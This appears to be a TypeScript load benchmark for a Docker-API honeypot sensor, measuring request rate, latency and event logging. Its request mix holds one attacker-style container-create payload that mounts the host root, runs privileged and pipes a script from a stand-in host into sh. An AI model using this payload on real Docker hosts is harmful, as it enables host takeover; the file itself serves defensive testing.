/**
 * Docker requests as attackers send them, from many clients at once, each answer after its event is on disk; beside
 * them what this disk's sync takes, which no durable answer can be faster than.
 */
import { closeSync, fdatasyncSync, openSync, readFileSync, writeSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { join } from 'node:path';
import type { Ground } from '../parts.ts';
import { type BenchResult, median } from '../result.ts';
import { goalResult } from '../speed.ts';
import { startSensor } from './sensor.ts';

const clients = 64;
/** Milliseconds. */
const duration = 20_000;
const goals = { rate: '>= 5000', p99: '<= 100' };

/** One round of a visitor: what is asked and how often in ten. */
const mix: readonly (readonly [method: string, path: string, body: string | undefined])[] = [
  ['GET', '/_ping', undefined],
  ['GET', '/version', undefined],
  ['GET', '/v1.41/containers/json', undefined],
  ['GET', '/v1.41/info', undefined],
  ['GET', '/v1.41/images/json', undefined],
  ['GET', '/_ping', undefined],
  ['GET', '/version', undefined],
  ['GET', '/v1.24/containers/json?all=1', undefined],
  ['GET', '/v1.41/containers/nope/json', undefined],
  [
    'POST',
    '/v1.24/containers/create',
    JSON.stringify({
      Image: 'alpine',
      Cmd: ['chroot', '/mnt', 'sh', '-c', 'curl -fsSL http://203.0.113.7/init.sh | sh'],
      HostConfig: { Binds: ['/:/mnt'], Privileged: true, NetworkMode: 'host' },
    }),
  ],
];

export async function benchRequests({ folder, scale, say }: Ground): Promise<BenchResult[]> {
  const sensor = await startSensor(folder);
  const port = sensor.ports.get('docker')!;
  const agent = new Agent({ keepAlive: true, maxSockets: clients });
  const times: number[] = [];
  let failed = 0;
  try {
    const end = performance.now() + Math.max(2000, duration * scale);
    const start = performance.now();
    await Promise.all(
      Array.from({ length: clients }, async (_, client) => {
        for (let turn = client; performance.now() < end; turn += 1) {
          const since = performance.now();
          const answered = await ask(agent, port, mix[turn % mix.length]!);
          if (answered) times.push(performance.now() - since);
          else failed += 1;
        }
      }),
    );
    const seconds = (performance.now() - start) / 1000;
    times.sort((a, b) => a - b);
    await sensor.stop();
    const recorded = readFileSync(sensor.events, 'utf8').split('\n').filter(isRequest).length;
    say(`${times.length} answers, ${recorded} events`);
    return [
      goalResult('Docker requests answered a second', times.length / seconds, '1/s', 1, goals.rate),
      goalResult('p99', times[Math.floor(times.length * 0.99)] ?? 0, 'ms', 1, goals.p99),
      { metric: 'median', value: Number(median(times).toFixed(1)), unit: 'ms', runs: 1 },
      { metric: 'sync of this disk', value: Number(syncTime(folder).toFixed(1)), unit: 'ms', runs: 50 },
      goalResult('answers without an event on disk', Math.max(0, times.length - recorded), '', 1, '<= 0'),
      goalResult('requests that failed', failed, '', 1, '<= 0'),
    ];
  } finally {
    agent.destroy();
    await sensor.running.kill();
  }
}

function isRequest(line: string): boolean {
  return line.includes('"type":"docker.') && !/"type":"docker\.(?:connect|close)"/.test(line);
}

function ask(agent: Agent, port: number, [method, path, body]: (typeof mix)[number]): Promise<boolean> {
  return new Promise((resolve) => {
    const headers =
      body === undefined ? {} : { 'content-type': 'application/json', 'content-length': body.length };
    const sent = request({ agent, host: '127.0.0.1', port, method, path, headers }, (answer) => {
      answer
        .resume()
        .once('end', () => resolve(true))
        .once('error', () => resolve(false));
    });
    sent.once('error', () => resolve(false));
    sent.end(body);
  });
}

/** Milliseconds, median of fifty. */
function syncTime(folder: string): number {
  const file = openSync(join(folder, 'sync'), 'w');
  const times: number[] = [];
  for (let turn = 0; turn < 50; turn += 1) {
    writeSync(file, 'x'.repeat(4096));
    const since = performance.now();
    fdatasyncSync(file);
    times.push(performance.now() - since);
  }
  closeSync(file);
  return median(times);
}
